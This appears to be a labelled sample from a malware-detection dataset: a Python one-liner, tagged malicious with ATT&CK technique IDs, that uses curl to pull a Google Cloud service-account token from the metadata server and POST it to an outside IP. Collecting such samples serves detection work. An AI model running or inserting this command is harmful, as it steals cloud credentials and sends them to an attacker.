# label: malicious family=metadata techniques=T1041,T1059.004,T1528,T1552.005 lines=2
import os;os.system('curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token | curl -s -X POST -d @- http://192.0.2.77/t')
